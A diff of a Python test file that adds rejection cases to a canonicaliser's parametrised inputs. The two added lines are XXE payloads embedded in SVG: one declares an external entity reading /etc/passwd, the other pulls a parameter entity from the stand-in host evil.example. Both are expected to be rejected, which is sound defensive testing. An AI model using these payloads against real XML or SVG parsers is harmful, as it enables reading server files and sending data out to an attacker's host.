@@ -58,6 +58,8 @@ def canonicaliser() -> Iterator[Canonicaliser]:
         ("a.b.c", "not_a_token"),
         ("\ud800".encode("utf-8", "surrogatepass"), "not_text"),
         ("<!DOCTYPE x [<!ENTITY a 'b'>]><svg>&a;</svg>", "not_a_picture"),
+        ("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg>&a;</svg>", "not_a_picture"),
+        ("<!DOCTYPE x [<!ENTITY % a SYSTEM 'https://evil.example/'> %a;]><svg/>", "not_a_picture"),
         ("<svg xmlns='http://www.w3.org/2000/svg'/>", "not_baked"),
         (PNG, "not_baked"),
         (PNG + b"\xff\xff\xff\xffiTXt" + b"x" * 100, "not_baked"),
